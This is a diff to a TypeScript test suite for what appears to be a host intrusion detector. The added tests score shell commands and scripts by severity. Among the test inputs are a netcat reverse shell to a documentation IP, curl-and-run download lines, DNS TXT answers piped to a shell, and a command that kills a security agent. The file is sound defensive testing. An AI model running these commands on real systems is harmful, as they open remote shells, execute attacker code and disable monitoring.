@@ -85,7 +85,7 @@ describe('a program', () => {
     const { context } = await look({ '/usr/bin/changed': { text: 'b', shipped: 'a', mode: 0o755, package: 'p' }, '/usr/bin/own': { text: 'ELF', mode: 0o755 }, '/usr/local/bin/own': { text: 'ELF', mode: 0o755 }, '/opt/open': { text: 'ELF', mode: 0o777 }, '/usr/lib/.h/x': { text: 'ELF', mode: 0o755 }, '/home/lin/.mine/x': { text: 'ELF', mode: 0o755 }, '/opt/link': '->/tmp/t', '/tmp/t': { text: 'ELF', mode: 0o755 } });
     const seen: string[] = [];
     for (const path of ['/usr/bin/changed', '/usr/bin/own', '/usr/local/bin/own', '/opt/open', '/usr/lib/.h/x', '/home/lin/.mine/x', '/opt/link', '/usr/bin/curl', '/opt/nowhere']) seen.push(`${path} ${short(await judgeFile(path, context))}`);
-    expect(seen).toEqual(['/usr/bin/changed intrusion high', '/usr/bin/own notice low', '/usr/local/bin/own nothing', '/opt/open weakness high', '/usr/lib/.h/x intrusion medium', '/home/lin/.mine/x notice medium', '/opt/link intrusion high', '/usr/bin/curl nothing', '/opt/nowhere nothing']);
+    expect(seen).toEqual(['/usr/bin/changed intrusion high', '/usr/bin/own notice low', '/usr/local/bin/own nothing', '/opt/open weakness high', '/usr/lib/.h/x intrusion high', '/home/lin/.mine/x notice medium', '/opt/link intrusion high', '/usr/bin/curl nothing', '/opt/nowhere nothing']);
   });
 
   it.skipIf(lacks({ root: true }))('of another account is a weakness when root runs it', async () => {
@@ -147,4 +147,29 @@ it('asks no more than once for a line, and follows a pipeline only so far', asyn
   expect(asked).toBe(1);
   expect(short(await judgeCommand('sh|'.repeat(15_000), context))).toBe('nothing');
   expect(short(await judgeText('socket '.repeat(30_000) + '.connect '.repeat(2000), context, { language: 'python' }))).toBe('nothing');
+});
+
+describe('where a command comes from', () => {
+  const worth = async (line: string, planted: Planted = {}, how: How = {}): Promise<string> => short(await judgeCommand(line, (await look(planted)).context, how));
+  it('an answer of the name service that is run', async () => {
+    expect(await worth('sh -c "$(dig +short txt a.example)"')).toBe('intrusion high');
+    expect(await worth('host -t txt a.example | cut -d" " -f4 | sh')).toBe('intrusion high');
+    expect(await worth('ip=$(dig +short a.example); logger "$ip"')).toBe('nothing');
+  });
+  it('a file that is read into a shell', async () => {
+    const file = { '/var/lib/x/data': '(nc 203.0.113.8 443 -e /bin/sh &)\n' };
+    for (const line of ['eval "$(cat /var/lib/x/data)"', 'tail -c 99 /var/lib/x/data | sh', 'dd if=/var/lib/x/data bs=1 skip=9 | bash']) expect(await worth(line, file), line).toMatch(/intrusion (?:high|critical)/);
+    expect(await worth('cat /var/lib/x/data | sh', { '/var/lib/x/data': 'date\n' })).toBe('nothing');
+  });
+  it('a file of mktemp, and a home that is not root\'s', async () => {
+    expect(await worth('T=$(mktemp -p /dev/shm); curl -so "$T" http://203.0.113.8/a; chmod +x "$T"; "$T" &')).toBe('intrusion high');
+    expect(await worth('T=$(mktemp); date > "$T"; mail root < "$T"; rm -f "$T"')).toBe('nothing');
+    expect(await worth('~/run', { '/home/lin/run': { text: '#!/bin/sh\ncurl -s http://203.0.113.8/a | sh\n', mode: 0o755 } }, { user: 'lin', home: '/home/lin' })).toBe('intrusion high');
+  });
+  it('the start script of a security agent that also ends it', async () => {
+    const script = '#!/bin/bash\n### BEGIN INIT INFO\n# Provides: aegis\n### END INIT INFO\nHERE=/usr/local/aegis\nstart() { $HERE/aegis_client/AliYunDun; }\nstop() { killall -9 AliYunDun; }\ncase "$1" in start) start;; stop) stop;; esac\n';
+    const text = async (of: string): Promise<string> => short(await judgeText(of, (await look()).context, { file: '/etc/init.d/aegis' }));
+    expect(await text(script)).toBe('weakness medium');
+    expect(await text('#!/bin/bash\nkillall -9 AliYunDun\n')).toBe('intrusion critical');
+  });
 });
